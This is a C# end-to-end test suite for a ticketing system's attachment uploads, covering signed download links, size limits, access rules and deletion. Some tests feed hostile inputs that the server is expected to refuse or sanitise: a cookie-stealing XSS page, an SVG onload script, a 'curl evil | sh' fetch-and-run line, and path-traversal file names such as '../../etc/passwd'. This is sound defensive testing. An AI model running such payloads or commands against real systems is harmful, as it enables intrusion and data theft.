using System.Net.Http.Headers;
using System.Net.Http.Json;
using System.Security.Cryptography;
using System.Text;
using Microsoft.Extensions.DependencyInjection;
using Tickets.Attachments;
using Tickets.EndToEndTests.Tickets;

namespace Tickets.EndToEndTests.Attachments;

/// <summary>Files through the real local host and Azurite's blob service: upload, attach, read by link, and everything refused.</summary>
public sealed class AttachmentTests(TicketWorld world) : IClassFixture<TicketWorld>
{
    private LocalHost Host => world.Host;

    private static byte[] PngOf(int size)
    {
        var content = RandomNumberGenerator.GetBytes(size);
        AttachmentClient.Png.CopyTo(content, 0);
        return content;
    }

    private static string Sha256(byte[] content) => Convert.ToHexStringLower(SHA256.HashData(content));

    private Task<HttpClient> WithoutRedirectsAsync(HttpClient signedIn)
    {
        var client = new HttpClient(new HttpClientHandler { AllowAutoRedirect = false }) { BaseAddress = Host.BaseAddress };
        client.DefaultRequestHeaders.Authorization = signedIn.DefaultRequestHeaders.Authorization;
        return Task.FromResult(client);
    }

    /// <summary>Every upload the store holds unreferenced (whatever its age) and every blob: what "nothing kept" is checked against.</summary>
    private async Task<(int Uploads, int Blobs)> KeptAsync()
    {
        var store = Host.Services.GetRequiredService<IUploadStore>();
        var far = DateTimeOffset.UtcNow.AddDays(1);
        return ((await store.ListStaleAsync(far, far, 10_000)).Count, (await Host.Blobs.NamesAsync()).Count);
    }

    [Fact]
    public async Task AnUploadAttachedToATicketDownloadsAsTheSameBytes()
    {
        var content = PngOf(300_000);
        var uploaded = await world.User.UploadedAsync(content, "captura de pantalla.png");
        Assert.Equal(("captura de pantalla.png", "image/png", 300_000, Sha256(content)),
            (uploaded.Str("fileName"), uploaded.Str("contentType"), uploaded.GetProperty("size").GetInt64(), uploaded.Str("sha256")));

        Assert.Equal("unreferenced", await Host.Blobs.StateTagAsync(uploaded.Id()));

        var created = await world.User.CreateTicketWithAsync(uploaded.Id());
        Assert.Equal(201, (int)created.StatusCode);
        var ticket = await created.JsonAsync();
        Assert.Equal([uploaded.Id()], ticket.GetProperty("attachments").EnumerateArray().Select(a => a.Str("id")));
        // Attached: the lifecycle rule's backstop for unreferenced blobs no longer matches it.
        Assert.Equal("referenced", await Host.Blobs.StateTagAsync(uploaded.Id()));

        var client = await WithoutRedirectsAsync(world.Technician);
        var redirect = await client.GetAttachmentAsync(uploaded.Id());
        Assert.Equal(302, (int)redirect.StatusCode);
        Assert.Equal("nosniff", redirect.Headers.GetValues("X-Content-Type-Options").Single());
        Assert.True(redirect.Headers.CacheControl?.NoStore);

        var bytes = await AttachmentClient.FollowAsync(redirect.Headers.Location!);
        Assert.Equal(200, (int)bytes.StatusCode);
        var read = await bytes.Content.ReadAsByteArrayAsync();
        Assert.Equal(Sha256(content), Sha256(read));
        Assert.Equal(content, read);
        Assert.Equal("image/png", bytes.Content.Headers.ContentType?.MediaType);
        Assert.Equal("inline", bytes.Content.Headers.ContentDisposition?.DispositionType);
        Assert.Equal("captura de pantalla.png", bytes.Content.Headers.ContentDisposition?.FileNameStar);
    }

    [Fact]
    public async Task TheLinkRouteAnswersTheSameKindOfLinkWithItsExpiry()
    {
        var content = Encoding.UTF8.GetBytes("fecha;error\n2025-03-04;sin tóner\n");
        var uploaded = await world.User.UploadedAsync(content, "errores.csv");

        var response = await world.User.GetAsync($"api/attachments/{uploaded.Id()}/link");
        Assert.Equal(200, (int)response.StatusCode);
        var link = await response.JsonAsync();
        var expiresAt = link.GetProperty("expiresAt").GetDateTimeOffset();
        Assert.InRange(expiresAt - DateTimeOffset.UtcNow, TimeSpan.FromMinutes(4), TimeSpan.FromMinutes(5) + TimeSpan.FromSeconds(5));

        var bytes = await AttachmentClient.FollowAsync(new Uri(link.Str("url")));
        Assert.Equal(content, await bytes.Content.ReadAsByteArrayAsync());
        Assert.Equal("text/csv", bytes.Content.Headers.ContentType?.MediaType);
        Assert.Equal("attachment", bytes.Content.Headers.ContentDisposition?.DispositionType);
    }

    [Theory]
    [InlineData("<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>", "captura.png")]
    [InlineData("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><circle r=\"4\"/></svg>", "logo.svg")]
    [InlineData("#!/bin/sh\ncurl evil | sh\n", "instalar.txt")]
    public async Task MarkupAndScriptsAreRefusedAs415NamingFileAndNothingIsKept(string content, string fileName)
    {
        var before = await KeptAsync();

        var problem = await (await world.User.UploadAsync(Encoding.UTF8.GetBytes(content), fileName)).ProblemAsync(415);

        Assert.Equal(["file"], problem.FieldErrors());
        Assert.Equal(before, await KeptAsync());
    }

    [Fact]
    public async Task AWindowsProgramIsRefusedWhateverItsName()
    {
        var program = new byte[4096];
        "MZ"u8.CopyTo(program);

        var problem = await (await world.User.UploadAsync(program, "factura.pdf")).ProblemAsync(415);

        Assert.Equal(["file"], problem.FieldErrors());
    }

    [Fact]
    public async Task AFileOverTheLimitIs413AndNothingIsKept()
    {
        var before = await KeptAsync();

        var problem = await (await world.User.UploadAsync(PngOf((int)new AttachmentOptions().MaxBytes + 1), "enorme.png")).ProblemAsync(413);

        Assert.Equal(["file"], problem.FieldErrors());
        Assert.Equal(new AttachmentOptions().MaxBytes, problem.GetProperty("maxBytes").GetInt64());
        Assert.Equal(before, await KeptAsync());
    }

    [Fact]
    public async Task AFileOverTheLimitSentWithoutALengthIsStoppedWhileStreamingAndNothingIsKept()
    {
        var before = await KeptAsync();
        var form = new MultipartFormDataContent();
        // A stream that cannot say its length: the request goes chunked, so only the count while streaming can stop it.
        var part = new StreamContent(new UnknownLength(PngOf((int)new AttachmentOptions().MaxBytes + 100_000)));
        part.Headers.ContentType = new MediaTypeHeaderValue("application/octet-stream");
        form.Add(part, "file", "enorme.png");

        var response = await world.User.PostAsync("api/attachments", form);

        Assert.Null(response.RequestMessage?.Content?.Headers.ContentLength);
        Assert.Equal(["file"], (await response.ProblemAsync(413)).FieldErrors());
        Assert.Equal(before, await KeptAsync());
    }

    [Theory]
    [InlineData("../../etc/passwd.txt", "passwd.txt")]
    [InlineData("C:\\x\\y.txt", "y.txt")]
    [InlineData("..\\..\\Windows\\win.ini.txt", "win.ini.txt")]
    public async Task PathsInFileNamesAreDropped(string sent, string kept)
    {
        var uploaded = await world.User.UploadedAsync("root:x:0:0\n"u8.ToArray(), sent);

        Assert.Equal(kept, uploaded.Str("fileName"));
    }

    [Fact]
    public async Task AnotherPersonsUploadCannotBeAttached()
    {
        var theirs = await world.OtherUser.UploadedAsync(PngOf(1000), "suya.png");

        var problem = await (await world.User.CreateTicketWithAsync(theirs.Id())).ProblemAsync(400);

        Assert.Equal(["attachmentIds"], problem.FieldErrors());
    }

    [Fact]
    public async Task AnUploadAttachedOnceCannotBeAttachedAgain()
    {
        var uploaded = await world.User.UploadedAsync(PngOf(1000), "una vez.png");
        Assert.Equal(201, (int)(await world.User.CreateTicketWithAsync(uploaded.Id())).StatusCode);
        var ticket = await world.User.CreateTicketAsync();

        Assert.Equal(["attachmentIds"], (await (await world.User.CreateTicketWithAsync(uploaded.Id())).ProblemAsync(400)).FieldErrors());
        Assert.Equal(["attachmentIds"], (await (await world.User.CommentWithAsync(ticket.Id(), false, uploaded.Id())).ProblemAsync(400)).FieldErrors());
    }

    [Fact]
    public async Task AnInternalNotesFileIsNotFoundForTheRequester()
    {
        var ticket = await world.User.CreateTicketAsync();
        var uploaded = await world.Technician.UploadedAsync(PngOf(2000), "diagnóstico interno.png");
        Assert.Equal(201, (int)(await world.Technician.CommentWithAsync(ticket.Id(), true, uploaded.Id())).StatusCode);

        Assert.Equal(404, (int)(await world.User.GetAttachmentAsync(uploaded.Id())).StatusCode);
        Assert.Equal(404, (int)(await world.User.GetAsync($"api/attachments/{uploaded.Id()}/link")).StatusCode);
        var listed = await (await world.User.GetAsync($"api/tickets/{ticket.Id()}/attachments")).JsonAsync();
        Assert.Empty(listed.GetProperty("items").EnumerateArray());

        var staff = await (await world.OtherTechnician.GetAsync($"api/tickets/{ticket.Id()}/attachments")).JsonAsync();
        Assert.Equal([uploaded.Id()], staff.GetProperty("items").EnumerateArray().Select(a => a.Str("id")));
        Assert.Equal(302, (int)(await (await WithoutRedirectsAsync(world.OtherTechnician)).GetAttachmentAsync(uploaded.Id())).StatusCode);
    }

    [Fact]
    public async Task APublicCommentsFileIsReadByTheRequesterAndNotByAStranger()
    {
        var ticket = await world.User.CreateTicketAsync();
        var uploaded = await world.Technician.UploadedAsync("Pasos: reiniciar la cola.\n"u8.ToArray(), "pasos.txt");
        Assert.Equal(201, (int)(await world.Technician.CommentWithAsync(ticket.Id(), false, uploaded.Id())).StatusCode);

        Assert.Equal(200, (int)(await world.User.GetAsync($"api/attachments/{uploaded.Id()}/link")).StatusCode);
        Assert.Equal(404, (int)(await world.OtherUser.GetAsync($"api/attachments/{uploaded.Id()}/link")).StatusCode);
        Assert.Equal(404, (int)(await world.OtherUser.GetAsync($"api/tickets/{ticket.Id()}/attachments")).StatusCode);
    }

    [Fact]
    public async Task AnUnreferencedUploadIsOnlyItsUploadersToReadAndRemove()
    {
        var uploaded = await world.User.UploadedAsync(PngOf(1000), "borrador.png");

        Assert.Equal(404, (int)(await world.OtherUser.GetAttachmentAsync(uploaded.Id())).StatusCode);
        Assert.Equal(404, (int)(await world.Technician.GetAttachmentAsync(uploaded.Id())).StatusCode);
        Assert.Equal(404, (int)(await world.OtherUser.DeleteAsync($"api/attachments/{uploaded.Id()}")).StatusCode);
        Assert.True(await Host.Blobs.ExistsAsync(uploaded.Id()));

        Assert.Equal(204, (int)(await world.User.DeleteAsync($"api/attachments/{uploaded.Id()}")).StatusCode);
        Assert.False(await Host.Blobs.ExistsAsync(uploaded.Id()));
        Assert.Equal(404, (int)(await world.User.GetAttachmentAsync(uploaded.Id())).StatusCode);
    }

    [Fact]
    public async Task AnAttachedFileCannotBeRemoved()
    {
        var uploaded = await world.User.UploadedAsync(PngOf(1000), "pegada.png");
        Assert.Equal(201, (int)(await world.User.CreateTicketWithAsync(uploaded.Id())).StatusCode);

        Assert.Equal(404, (int)(await world.User.DeleteAsync($"api/attachments/{uploaded.Id()}")).StatusCode);
        Assert.True(await Host.Blobs.ExistsAsync(uploaded.Id()));
    }

    [Fact]
    public async Task ABodyThatIsNotOneFilePartIsRefusedNamingFileAndNothingIsKept()
    {
        var before = await KeptAsync();

        var json = await world.User.PostAsJsonAsync("api/attachments", new { file = "aGVsbG8=" });
        var wrongPart = await world.User.UploadAsync(PngOf(100), "a.png", partName: "documento");
        var twoParts = new MultipartFormDataContent
        {
            { new ByteArrayContent(PngOf(100)), "file", "a.png" },
            { new ByteArrayContent(PngOf(100)), "file", "b.png" },
        };
        var extra = await world.User.PostAsync("api/attachments", twoParts);

        Assert.Equal(["file"], (await json.ProblemAsync(415)).FieldErrors());
        Assert.Equal(["file"], (await wrongPart.ProblemAsync(400)).FieldErrors());
        Assert.Equal(["file"], (await extra.ProblemAsync(400)).FieldErrors());
        Assert.Equal(before, await KeptAsync());
    }

    [Fact]
    public async Task UploadingNeedsASignedInCaller()
    {
        Assert.Equal(401, (int)(await Host.Client().UploadAsync(PngOf(100), "a.png")).StatusCode);
    }

    /// <summary>A readable stream that does not tell its length.</summary>
    private sealed class UnknownLength(byte[] content) : MemoryStream(content)
    {
        public override bool CanSeek => false;
    }
}
